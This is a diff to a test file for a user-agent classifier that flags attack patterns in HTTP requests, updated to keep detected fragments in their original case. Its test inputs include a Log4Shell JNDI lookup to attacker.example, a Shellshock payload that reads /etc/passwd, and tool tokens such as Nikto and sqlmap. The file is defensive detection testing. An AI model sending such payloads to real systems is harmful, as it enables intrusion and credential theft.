@@ -9,11 +9,19 @@ describe("createUserAgentClassifier", () => {
     expect(classify("javascript:")).toEqual({ category: "script-code", fragment: "javascript:" });
   });
 
-  it("reports the decoded, lower-cased lookup as the fragment", () => {
+  // The fragment was lower-cased, as the scanners read it; the sample request kept the case.
+  it("reports the decoded lookup as the fragment, in the case it was sent in", () => {
     expect(classify("Mozilla/5.0 %24%7BJNDI:LDAP://attacker.example/a%7D")).toEqual({
       category: "log4shell",
-      fragment: "${jndi:ldap://attacker.example/a}",
+      fragment: "${JNDI:LDAP://attacker.example/a}",
     });
+  });
+
+  it("reports the fragment lower-cased when lower-casing moved characters", () => {
+    // "İ" lower-cases to two characters, so the scanner's positions no longer fit the original.
+    expect(classify("İstanbul-app/1.0 () { :; }; /bin/Cat /etc/passwd")?.fragment).toBe(
+      "() { :; }; /bin/cat /etc/passwd",
+    );
   });
 
   it("redacts a key-like run in the fragment and keeps the rest readable", () => {
@@ -27,7 +35,7 @@ describe("createUserAgentClassifier", () => {
   it("redacts a base64 token even when it contains slashes and padding", () => {
     const finding = classify("agent; curl -H 'x-api-key: q2Vf/8kL+0pXz9Rt4mWb7Yc1Nd6Ua3Es==' h");
 
-    expect(finding?.fragment).toBe("; curl -h 'x-api-key: …redacted…' h");
+    expect(finding?.fragment).toBe("; curl -H 'x-api-key: …redacted…' h");
   });
 
   it("cuts the fragment to 120 characters", () => {
@@ -60,7 +68,7 @@ describe("createUserAgentClassifier", () => {
   it("reports a tool's product token with its version", () => {
     expect(classify("Mozilla/5.0 (compatible; Nikto/2.5.0; +https://cirt.net)")).toEqual({
       category: "attack-tool",
-      fragment: "nikto/2.5.0",
+      fragment: "Nikto/2.5.0",
     });
   });
 
@@ -81,7 +89,7 @@ describe("createUserAgentClassifier", () => {
     });
     const classifyWithShortList = createUserAgentClassifier({ attackToolTokens: ["nikto"] });
 
-    expect(classifyWithOwnList("InternalPenTest/3.1")?.fragment).toBe("internalpentest/3.1");
+    expect(classifyWithOwnList("InternalPenTest/3.1")?.fragment).toBe("InternalPenTest/3.1");
     expect(classifyWithShortList("sqlmap/1.7.2")).toBeNull();
   });
 
